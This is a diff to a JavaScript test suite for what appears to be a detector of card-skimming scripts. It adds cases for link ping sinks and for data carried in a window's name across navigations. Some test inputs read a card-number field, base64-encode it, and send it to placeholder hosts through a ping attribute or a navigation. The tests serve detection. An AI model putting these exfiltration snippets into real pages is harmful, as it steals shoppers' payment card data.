@@ -244,6 +244,19 @@ describe("a link's ping addresses, posted to when the link is followed", () => {
     expect(analyzeScript(read + tail).verdict).toBe('malicious')
   })
 
+  it.each([
+    ['a heartbeat', `var s=document.createElement('div');this.ping=Date.now()-d`],
+    ['a bare name', `var s=document.createElement('div');ping='https://hits.example.test/p?d='+d`],
+    [
+      'a div',
+      `var s=document.createElement('div');s.setAttribute('ping','https://hits.example.test/p?d='+d)`,
+    ],
+  ])('are not %s, which no link posts', (_what, tail) => {
+    expect(sinks(`var d=btoa(document.querySelector('[name=cc_number]').value);${tail}`)).toEqual(
+      [],
+    )
+  })
+
   it("a page's own links pinging the shop's analytics with where they lead are not card data", () => {
     const source = `document.querySelectorAll('a[href^="http"]').forEach(function(l){
       if (l.host !== location.host) l.setAttribute('ping','/analytics/outbound?to='+encodeURIComponent(l.href))})`
@@ -279,11 +292,17 @@ describe("a window's name, which it keeps when it is navigated", () => {
     expect(analyzeScript(data + tail).verdict).toBe('malicious')
   })
 
-  it('a name set on a window that goes nowhere, or a window opened under a plain name, sends nothing', () => {
+  it('a name set on a window that goes nowhere, or a window opened under a written-out name, sends nothing', () => {
     expect(messages(`${data}${frame}f.contentWindow.name=d;window.open('/help','_blank')`)).toEqual(
-      ['/help'],
+      [],
     )
     expect(analyzeScript(`${data}${frame}f.contentWindow.name=d`).verdict).not.toBe('malicious')
+  })
+
+  it('goes with every navigation of that window, not only the first', () => {
+    const source = `${data}window.name=d;if(location.pathname==='/x')location.href='/cart';else location.href='https://far.example.test/r'`
+    expect(messages(source)).toEqual(['/cart', 'https://far.example.test/r'])
+    expect(analyzeScript(source).verdict).toBe('malicious')
   })
 })
 
